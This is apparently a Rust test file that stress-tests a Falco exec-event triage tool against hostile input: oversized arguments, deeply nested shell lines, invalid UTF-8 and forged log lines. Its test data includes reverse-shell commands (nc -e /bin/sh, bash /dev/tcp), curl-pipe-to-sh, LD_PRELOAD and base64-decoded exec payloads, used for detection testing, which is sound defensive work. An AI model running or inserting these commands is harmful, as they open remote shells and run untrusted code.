//! Hostile input, one case per attack on the pipeline's bounds: huge argv and environments,
//! pathological shell command lines, invalid UTF-8 and NUL bytes through the real event
//! decode, terminal escapes and forged log lines, long paths, events with every parameter
//! absent or truncated, and endless lineages. Each case must complete and every output must
//! keep the invariants of tests/common/invariants.rs (bounded, escaped, truthful). No timing
//! assertions: a case that never ends is the failure.

#[path = "common/invariants.rs"]
mod invariants;

use falco_event::events::{Event, EventMetadata, EventToBytes, RawEvent};
use falco_event::types::{Gid, Pid, SyscallResult, SystemTime, Uid};
use falco_event_schema::events::PPME_SYSCALL_EXECVE_19_X;
use falco_event_schema::fields::types::PT_FLAGS32_execve_flags;
use falco_triage::analysis::shell::{parse_exec, MAX_TOTAL_WORD_BYTES};
use falco_triage::analysis::{analyze, Ancestor, Lineage};
use falco_triage::facts::{self, DecodeLimits, ExecFacts};
use falco_triage::report;
use std::ffi::{CStr, CString};
use typed_path::UnixPath;

use falco_triage::bench_corpus::empty_execve;

const MIB: usize = 1 << 20;
/// A parameter of an execve event has a u16 length (the event has no EF_LARGE_PAYLOAD).
const MAX_PARAM: usize = u16::MAX as usize;

/// A container exec as root with a terminal: every context boost applies.
fn hostile_execve<'a>(exe: &'a CStr, args: &'a [u8]) -> PPME_SYSCALL_EXECVE_19_X<'a> {
    let mut ev = empty_execve();
    ev.res = Some(SyscallResult(0));
    ev.exe = Some(exe);
    ev.args = Some(args);
    ev.tid = Some(Pid(4242));
    ev.pid = Some(Pid(4242));
    ev.ptid = Some(Pid(4200));
    ev.comm = Some(c"sh");
    ev.cgroups =
        Some(b"cpuset=/docker/0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\0");
    ev.tty = Some(34816);
    ev.flags = Some(PT_FLAGS32_execve_flags::from_bits_retain(0b0011));
    ev.cap_effective = Some(u64::MAX);
    ev.uid = Some(Uid(0));
    ev.gid = Some(Gid(0));
    ev.exe_ino_ctime = Some(SystemTime(1));
    ev
}

/// Serialise the event as the driver delivers it, parse it back with falco_event the way
/// the plugin does, and decode it with the plugin's default limits.
fn through_decode(params: PPME_SYSCALL_EXECVE_19_X) -> ExecFacts {
    let event = Event {
        metadata: EventMetadata {
            ts: 1_700_000_000_000_000_000,
            tid: 4242,
        },
        params,
    };
    let mut buf = Vec::new();
    event.write(&mut buf).expect("write event");
    decode_bytes(&buf).expect("a well-formed execve exit event")
}

fn decode_bytes(buf: &[u8]) -> Option<ExecFacts> {
    let raw = RawEvent::from(buf).ok()?;
    let ev = raw.load::<PPME_SYSCALL_EXECVE_19_X>().ok()?;
    Some(facts::from_execve(&ev.params, &DecodeLimits::default()))
}

fn argv_bytes(f: &ExecFacts) -> usize {
    f.argv.iter().map(String::len).sum()
}

/// The decode keeps its default limits: at most 256 entries and 16 KiB of argv and env, 4 KiB
/// paths, counted on the text kept (invalid UTF-8 replaced by three-byte U+FFFD included).
fn assert_decoded_within_limits(f: &ExecFacts) {
    let d = DecodeLimits::default();
    assert!(f.argv.len() <= d.max_args, "{} argv entries", f.argv.len());
    assert!(
        argv_bytes(f) <= d.max_args_bytes,
        "{} argv bytes",
        argv_bytes(f)
    );
    assert!(f.env.len() <= d.max_env, "{} env entries", f.env.len());
    assert!(
        f.env_count() <= d.max_env,
        "{} env entries walked",
        f.env_count()
    );
    let env_bytes: usize = f.env.iter().map(String::len).sum();
    assert!(env_bytes <= d.max_env_bytes, "{env_bytes} env bytes");
    for s in [&f.exe_path, &f.cwd, &f.comm].into_iter().flatten() {
        assert!(s.len() <= 4096, "path of {} bytes", s.len());
    }
}

fn strings(argv: &[&str]) -> Vec<String> {
    argv.iter().map(|s| s.to_string()).collect()
}

// ---------------------------------------------------------------------------------------
// Size.

#[test]
fn one_mib_single_argument() {
    // Unbounded facts (the command line can build them): the analysis bounds itself.
    let huge = "A".repeat(MIB);
    let f = ExecFacts::from_argv(["sh".to_string(), "-c".to_string(), format!("echo {huge}")]);
    invariants::check_analysis(&f, &Lineage::default());
    let f = ExecFacts::from_argv([
        "nc".to_string(),
        "-e".to_string(),
        "/bin/sh".to_string(),
        huge.clone(),
        "4444".into(),
    ]);
    let (v, _) = invariants::check_analysis(&f, &Lineage::from_comms(["bash"]));
    assert!(
        v.risk >= 50,
        "a reverse shell stays a reverse shell when padded: {}",
        v.risk
    );

    // Through the event decode: the largest argument an event can carry is cut to 16 KiB.
    let big_arg: Vec<u8> = [vec![b'B'; MAX_PARAM - 1], vec![0]].concat();
    let f = through_decode(hostile_execve(c"/bin/sh", &big_arg));
    assert!(f.argv_truncated);
    assert_decoded_within_limits(&f);
    invariants::check_analysis(&f, &Lineage::default());
}

#[test]
fn one_mib_of_many_arguments() {
    let argv: Vec<String> = (0..MIB / 4).map(|i| format!("a{}", i % 10)).collect();
    let f = ExecFacts::from_argv(argv);
    let (v, text) = invariants::check_analysis(&f, &Lineage::default());
    let json = report::json_report(&f, &Lineage::default(), &v, &text);
    assert_eq!(
        json["facts"]["argv_truncated"], true,
        "64 of 262144 arguments shown"
    );

    // Through the decode: 32k one-byte arguments, cut at 256.
    let args: Vec<u8> = b"x\0".repeat(MAX_PARAM / 2);
    let f = through_decode(hostile_execve(c"xargs", &args));
    assert!(f.argv_truncated);
    assert_eq!(f.argv.len(), DecodeLimits::default().max_args);
    invariants::check_analysis(&f, &Lineage::default());
}

#[test]
fn hundred_thousand_env_entries() {
    let mut f = ExecFacts::from_argv(["bash", "-i"]);
    f.env = (0..100_000)
        .map(|i| format!("VAR{i}=\x1b[31m{i}\n"))
        .collect();
    f.env.push("LD_PRELOAD=/tmp/evil.so".into());
    let (v, text) = invariants::check_analysis(&f, &Lineage::default());
    let json = report::json_report(&f, &Lineage::default(), &v, &text).to_string();
    assert!(
        !json.contains("VAR99999"),
        "the environment is counted, never copied"
    );

    // Through the decode: as many entries as an event can carry, cut at 256.
    let env: Vec<u8> = b"E=\0".repeat(MAX_PARAM / 3);
    let mut ev = hostile_execve(c"bash", b"-i\0");
    ev.env = Some(&env);
    let f = through_decode(ev);
    assert!(f.env_truncated);
    assert_decoded_within_limits(&f);
    invariants::check_analysis(&f, &Lineage::default());
}

#[test]
fn exe_paths_of_four_kib_and_more() {
    let long_path = format!("/{}", "d/".repeat(2048));
    let mut f = ExecFacts::from_argv([long_path.as_str(), "-x"]);
    f.exe_flags = Some(facts::ExeFlags(facts::ExeFlags::UPPER_LAYER));
    f.cwd = Some(long_path.clone());
    f.comm = Some(long_path.clone());
    invariants::check_analysis(&f, &Lineage::from_comms([long_path.as_str()]));

    // Through the decode: a trusted_exepath as long as an event can carry is cut to 4 KiB.
    let longest = format!("/tmp/{}", "x".repeat(MAX_PARAM - 6));
    let exe = std::ffi::CString::new(format!("/tmp/{}", "y".repeat(8000))).unwrap();
    let mut ev = hostile_execve(&exe, b"\0");
    ev.trusted_exepath = Some(UnixPath::new(&longest));
    ev.cwd = Some(&exe);
    let f = through_decode(ev);
    assert_eq!(f.exe_path.as_ref().map(String::len), Some(4096));
    assert_eq!(f.cwd.as_ref().map(String::len), Some(4096));
    assert_decoded_within_limits(&f);
    invariants::check_analysis(&f, &Lineage::default());
}

// ---------------------------------------------------------------------------------------
// Shell command lines.

fn sh_c(script: String) -> ExecFacts {
    ExecFacts::from_argv(["sh".to_string(), "-c".to_string(), script])
}

#[test]
fn ten_thousand_pipeline_stages() {
    let stages = vec!["cat"; 10_000].join(" | ");
    invariants::check_analysis(&sh_c(stages), &Lineage::default());
    let mixed = (0..10_000)
        .map(|i| ["id", "curl http://x", "nc 1.2.3.4 4444", "sh"][i % 4])
        .collect::<Vec<_>>()
        .join(" | ");
    invariants::check_analysis(&sh_c(format!("{mixed} && echo done")), &Lineage::default());
    let separators = "a;b&&c||d&e\n".repeat(10_000 / 5);
    invariants::check_analysis(&sh_c(separators), &Lineage::default());
}

#[test]
fn deeply_nested_sh_c() {
    // Properly quoted nesting: each level single-quotes the one inside (quotes grow 4x per
    // level, so 8 levels already make a 100 KB string).
    let mut script = "curl http://x | sh".to_string();
    for _ in 0..8 {
        script = format!("sh -c '{}'", script.replace('\'', r"'\''"));
    }
    invariants::check_analysis(&sh_c(script), &Lineage::default());
    // Double-quoted nesting, 1000 levels, never closed.
    let unclosed = "sh -c \"".repeat(1000) + "id";
    invariants::check_analysis(&sh_c(unclosed), &Lineage::default());
    // `sh -c sh -c ...` as argv words.
    let mut argv = vec!["sh".to_string()];
    for _ in 0..5000 {
        argv.push("-c".into());
        argv.push("sh".into());
    }
    invariants::check_analysis(&ExecFacts::from_argv(argv), &Lineage::default());
}

#[test]
fn nested_text_repeated_per_level() {
    // An unclosed `$(` holds the rest of the script and `eval` parses it again, so each level
    // repeats the text below it; the parser's word budget bounds what the detectors read.
    for unit in [
        "eval $(echo ",
        "eval \"$(echo ",
        "watch eval $(echo ",
        "sh -c \"eval $(sh -c ",
    ] {
        for (copies, pad) in [(40, 400), (200, 80), (8, 2000)] {
            let script = format!("{unit}{} ", "x".repeat(pad)).repeat(copies);
            let facts = sh_c(script);
            let bytes = parse_exec(&facts.argv).text_bytes();
            assert!(bytes <= MAX_TOTAL_WORD_BYTES, "{unit} x{copies}: {bytes}");
            invariants::check_analysis(&facts, &Lineage::default());
        }
    }
}

#[test]
fn command_substitution_a_thousand_deep() {
    let balanced = format!("echo {}x{}", "$(echo ".repeat(1000), ")".repeat(1000));
    invariants::check_analysis(&sh_c(balanced), &Lineage::default());
    let unbalanced = "$(".repeat(1000);
    invariants::check_analysis(&sh_c(unbalanced), &Lineage::default());
    let closers = ")".repeat(1000) + &"`".repeat(1001);
    invariants::check_analysis(&sh_c(closers), &Lineage::default());
    let backticks = format!("echo {}id", "`echo \\".repeat(1000));
    invariants::check_analysis(&sh_c(backticks), &Lineage::default());
    let heredocs = "cat <<EOF\n".repeat(1000);
    invariants::check_analysis(&sh_c(heredocs), &Lineage::default());
}

#[test]
fn multibyte_spaces_beside_shell_keywords() {
    // Rust counts these as whitespace, sh does not: a byte offset taken one past one of them
    // lands inside it. Found by the enrich_line fuzzer (a panic in decode's `$IFS` check on
    // `...cals\u{2000}1$IFS<<<`).
    let spaces = ('\u{80}'..=char::MAX).filter(|c| c.is_whitespace());
    for c in spaces {
        for script in [
            format!("cat{c}x$IFS/etc/passwd"),
            format!("{c}$IFS"),
            format!("a{c}${{IFS}}b"),
            format!("x=1{c}$IFS{c}"),
            format!("(((x>y{c}1$IFS<<<"),
            format!("echo a >{c}/etc/cron.d/x"),
            format!("base64{c}-d x | sh{c}"),
        ] {
            invariants::check_analysis(&sh_c(script), &Lineage::default());
        }
    }
}

// ---------------------------------------------------------------------------------------
// Bytes and escapes.

#[test]
fn invalid_utf8_and_nul_bytes_through_the_decode() {
    let args = b"-c\0\xff\xfe\xc3(\xed\xa0\x80 \xf0\x28\x8c\x28\0\0\0id\x80\0tail-without-nul\xc3";
    let mut ev = hostile_execve(c"/bin/\xffsh", args);
    ev.env = Some(b"A=\xff\0\0\0B=\xc3\0");
    ev.comm = Some(c"\xfe\xff");
    ev.cwd = Some(c"/\xc3");
    ev.cgroups = Some(b"cpuset=/docker/\xff\xfe\0\0=\0");
    let f = through_decode(ev);
    assert_eq!(f.argv[0], "/bin/\u{fffd}sh");
    assert_eq!(f.argv[1], "-c");
    assert!(f.argv[2].contains('\u{fffd}'));
    // Empty arguments between NULs keep their positions.
    assert_eq!(&f.argv[3..5], ["", ""]);
    assert_eq!(f.argv[5], "id\u{fffd}");
    assert_eq!(f.argv[6], "tail-without-nul\u{fffd}");
    assert_eq!(f.comm.as_deref(), Some("\u{fffd}\u{fffd}"));
    assert!(f.container.is_none(), "a broken cgroup is no container id");
    assert_decoded_within_limits(&f);
    invariants::check_analysis(&f, &Lineage::from_comms(["\u{fffd}"]));
}

#[test]
fn invalid_utf8_cannot_triple_the_decode_bounds() {
    // Every invalid byte becomes U+FFFD (three bytes). Found by the event_decode fuzzer: a
    // 4 KiB path of 0xff was kept as 12 KiB.
    let exe = CString::new(vec![0xffu8; 4096]).expect("no NUL");
    let args: Vec<u8> = [vec![0xfe; 12 * 1024], vec![0], vec![0xff; 12 * 1024]].concat();
    // Variables the analysis reads (the decode keeps only those): converted, then cut.
    let env = [
        b"PATH=".to_vec(),
        vec![0xc3; 8 * 1024],
        vec![0],
        b"LD_PRELOAD=".to_vec(),
        vec![0xff; 8 * 1024],
    ]
    .concat();
    let mut ev = hostile_execve(&exe, &args);
    ev.env = Some(&env);
    ev.cwd = Some(&exe);
    let f = through_decode(ev);
    assert_decoded_within_limits(&f);
    assert!(f.argv_truncated && f.env_truncated);
    let exe_path = f.exe_path.as_deref().expect("exe path");
    assert!(exe_path.chars().all(|c| c == '\u{fffd}'));
    invariants::check_analysis(&f, &Lineage::default());
}

#[test]
fn terminal_escapes_and_forged_lines_come_out_escaped() {
    let forged = "x\n2026-01-01T00:00:00 Critical fake alert\r\x1b[2J\x1b]0;owned\x07\u{202e}";
    let f = {
        let mut f = ExecFacts::from_argv(["nc", "-e", "/bin/sh", forged, "4444"]);
        f.exe_path = Some(format!("/tmp/{forged}"));
        f.comm = Some(forged.into());
        f.cwd = Some(forged.into());
        f.exe_flags = Some(facts::ExeFlags(facts::ExeFlags::UPPER_LAYER));
        f
    };
    let lineage = Lineage {
        ancestors: vec![Ancestor {
            comm: forged.into(),
            exe: Some(forged.into()),
            args: vec![forged.into()],
        }],
        known: true,
        earlier: None,
    };
    let (v, text) = invariants::check_analysis(&f, &lineage);
    // The text is there, visibly escaped: an analyst sees the attack, a terminal runs none.
    let json = report::json_report(&f, &lineage, &v, &text);
    assert_eq!(json["facts"]["argv"][3], report::escape(forged, 256));
    assert!(json["facts"]["argv"][3]
        .as_str()
        .is_some_and(|a| a.contains("\\x1b[2J")));
    assert_eq!(json["lineage"][0]["comm"], report::escape(forged, 256));
    assert!(
        text.summary.contains("\\n") || text.summary.contains("\\x1b"),
        "{}",
        text.summary
    );
    let report = report::text_report(&f, &lineage, &v, &text);
    assert!(!report.contains("\nx\n") && !report.lines().any(|l| l.starts_with("2026-01-01")));

    // The same bytes through the decode.
    let args = format!("-e\0/bin/sh\0{forged}\x004444\0").into_bytes();
    let f = through_decode(hostile_execve(c"nc", &args));
    assert_eq!(f.argv[3], forged);
    invariants::check_analysis(&f, &Lineage::default());
}

// ---------------------------------------------------------------------------------------
// Malformed events.

/// A raw execve exit event built by hand: header, `nparams` u16 lengths, then the values.
fn raw_event(nparams: u32, params: &[&[u8]], declared_len: Option<u32>) -> Vec<u8> {
    let lengths: Vec<u8> = (0..nparams as usize)
        .flat_map(|i| (params.get(i).map_or(0, |p| p.len()) as u16).to_ne_bytes())
        .collect();
    let body: Vec<u8> = params.concat();
    let len = 26 + lengths.len() + body.len();
    let mut buf = Vec::with_capacity(len);
    buf.extend_from_slice(&1u64.to_ne_bytes());
    buf.extend_from_slice(&7i64.to_ne_bytes());
    buf.extend_from_slice(&declared_len.unwrap_or(len as u32).to_ne_bytes());
    buf.extend_from_slice(&293u16.to_ne_bytes());
    buf.extend_from_slice(&nparams.to_ne_bytes());
    buf.extend_from_slice(&lengths);
    buf.extend_from_slice(&body);
    buf
}

#[test]
fn every_parameter_absent() {
    // Zero-length parameters (what libscap fills in when upgrading old captures).
    let f = decode_bytes(&raw_event(30, &[], None)).expect("30 empty parameters decode");
    assert_eq!(f, ExecFacts::default());
    let (v, _) = invariants::check_analysis(&f, &Lineage::default());
    assert!(
        v.risk < 50,
        "nothing known is nothing to page about: {}",
        v.risk
    );
    // No parameters at all, and only the first two.
    let f = decode_bytes(&raw_event(0, &[], None)).expect("no parameters decode");
    assert_eq!(f, ExecFacts::default());
    let f = decode_bytes(&raw_event(2, &[&0i64.to_ne_bytes(), b"sh\0"], None))
        .expect("two parameters decode");
    assert_eq!(f.argv, ["sh"]);
    invariants::check_analysis(&f, &Lineage::default());
    // More parameters than the schema knows (newer drivers): the extra ones are ignored.
    let f = decode_bytes(&raw_event(40, &[&0i64.to_ne_bytes(), b"sh\0"], None))
        .expect("extra parameters decode");
    assert_eq!(f.argv, ["sh"]);
    // The same through the typed writer, which writes defaults for `None`.
    let f = through_decode(empty_execve());
    invariants::check_analysis(&f, &Lineage::default());
}

#[test]
fn truncated_and_lying_events_are_refused_not_read() {
    let good = raw_event(3, &[&0i64.to_ne_bytes(), b"nc\0", b"-e\0/bin/sh\0"], None);
    for cut in 0..good.len() {
        // Every prefix either fails to decode or decodes to bounded facts.
        if let Some(f) = decode_bytes(&good[..cut]) {
            invariants::check_analysis(&f, &Lineage::default());
        }
    }
    // Lengths that point past the end, a u64 parameter of the wrong size, a CStr without NUL.
    let mut lying = raw_event(3, &[&0i64.to_ne_bytes(), b"nc\0", b"x\0"], None);
    lying[26 + 4..26 + 6].copy_from_slice(&u16::MAX.to_ne_bytes());
    assert!(
        decode_bytes(&lying).is_none(),
        "an argument past the end is refused"
    );
    let wrong_size = raw_event(1, &[&[1, 2, 3]], None);
    let _ = decode_bytes(&wrong_size);
    let no_nul = raw_event(2, &[&0i64.to_ne_bytes(), b"nc"], None);
    let _ = decode_bytes(&no_nul);
    // A declared length shorter than the header.
    let short = raw_event(2, &[&0i64.to_ne_bytes(), b"nc\0"], Some(3));
    let _ = decode_bytes(&short);
}

// ---------------------------------------------------------------------------------------
// Lineage.

#[test]
fn endless_and_cyclic_lineages() {
    // The plugin's table walk stops at cycles and at lineage_depth (src/plugin/tests.rs);
    // the command line and tests can hand the analysis any chain, so it bounds itself too.
    let comms: Vec<String> = (0..100_000)
        .map(|i| ["a", "b", "nginx", "sh"][i % 4].to_string())
        .collect();
    let lineage = Lineage::from_comms(comms);
    let f = ExecFacts::from_argv(["sh", "-c", "id"]);
    let (v, text) = invariants::check_analysis(&f, &lineage);
    let json = report::json_report(&f, &lineage, &v, &text);
    assert!(json["lineage"].as_array().is_some_and(|a| a.len() <= 16));
    let ancestors = vec![
        Ancestor {
            comm: "x".repeat(MIB),
            exe: Some("/".repeat(MIB)),
            args: strings(&["-c"; 10_000]),
        };
        64
    ];
    invariants::check_analysis(
        &f,
        &Lineage {
            ancestors,
            known: true,
            earlier: None,
        },
    );
    // A lineage that claims to be known yet is empty.
    let lineage = Lineage {
        ancestors: vec![],
        known: true,
        earlier: None,
    };
    let v = analyze(&f, &lineage);
    invariants::check_verdict(&v, &falco_triage::report::render(&f, &lineage, &v));
}

#[test]
fn carried_commands_nest_and_repeat_within_bounds() {
    use falco_triage::analysis::shell::{MAX_CARRIED, MAX_DEPTH};
    let argv = |words: Vec<String>| ExecFacts::from_argv(words);
    // find -exec find -exec ... a thousand deep: the depth bound stops it.
    let mut words = vec!["find".to_string()];
    for _ in 0..1000 {
        words.extend([".", "-exec", "find"].map(String::from));
    }
    let facts = argv(words);
    let line = parse_exec(&facts.argv);
    assert!(line.commands.iter().all(|c| c.depth <= MAX_DEPTH));
    assert!(line.origins.len() <= MAX_CARRIED && line.truncated);
    invariants::check_analysis(&facts, &Lineage::default());
    // A thousand carriers on one command line, and in one sh -c script.
    let many: Vec<String> = std::iter::once("ssh".to_string())
        .chain((0..1000).flat_map(|_| ["-o".into(), "ProxyCommand=nc -e /bin/sh h 1".into()]))
        .collect();
    let facts = argv(many);
    assert!(parse_exec(&facts.argv).origins.len() <= MAX_CARRIED);
    invariants::check_analysis(&facts, &Lineage::default());
    let script = "find . -exec sh -c 'curl x | sh' \\; ; ".repeat(2000);
    invariants::check_analysis(&sh_c(script), &Lineage::default());
    // Text written into a start-up file that itself writes into one, nested in quotes.
    let mut text = "bash -i >& /dev/tcp/1.2.3.4/1 0>&1".to_string();
    for _ in 0..12 {
        text = format!("echo '{}' >> ~/.bashrc", text.replace('\'', r"'\''"));
    }
    invariants::check_analysis(&sh_c(text), &Lineage::default());
}

#[test]
fn interpreter_code_that_is_huge_unclosed_or_self_decoding() {
    // Calls without a close, a megabyte of calls, literals without an end.
    for code in [
        "os.system(".repeat(100_000),
        "os.system('x');".repeat(50_000),
        format!("os.system('{}", "a".repeat(MIB)),
        format!("subprocess.call([{}])", "'nc',".repeat(20_000)),
        "exec(base64.b64decode('".repeat(10_000),
        format!("os.system(base64.b64decode('{}'))", "QUFB".repeat(100_000)),
        "\"\"\"".repeat(30_000),
    ] {
        invariants::check_analysis(
            &ExecFacts::from_argv(["python3".to_string(), "-c".into(), code]),
            &Lineage::default(),
        );
    }
    // Code that decodes to code that decodes to a command: read two levels deep, no more.
    let mut code = "import os;os.system('id')".to_string();
    for _ in 0..6 {
        code = format!("exec(base64.b64decode('{}'))", b64(code.as_bytes()));
    }
    invariants::check_analysis(
        &ExecFacts::from_argv(["python3".to_string(), "-c".into(), code]),
        &Lineage::default(),
    );
    for (program, flag, code) in [
        ("perl", "-e", "`".repeat(100_000)),
        ("ruby", "-e", "%x(".repeat(100_000)),
        ("awk", "--", "\"x\" | getline;".repeat(50_000)),
        ("expect", "-c", "spawn ".repeat(100_000)),
        ("node", "-e", "{".repeat(100_000) + "exec('id')"),
    ] {
        invariants::check_analysis(
            &ExecFacts::from_argv([program.to_string(), flag.into(), code]),
            &Lineage::default(),
        );
    }
}

/// Standard base64, for building nested payloads.
fn b64(bytes: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n =
            chunk.iter().fold(0u32, |acc, b| (acc << 8) | u32::from(*b)) << (8 * (3 - chunk.len()));
        for i in 0..=chunk.len() {
            out.push(A[((n >> (18 - 6 * i)) & 63) as usize] as char);
        }
    }
    while out.len() % 4 != 0 {
        out.push('=');
    }
    out
}
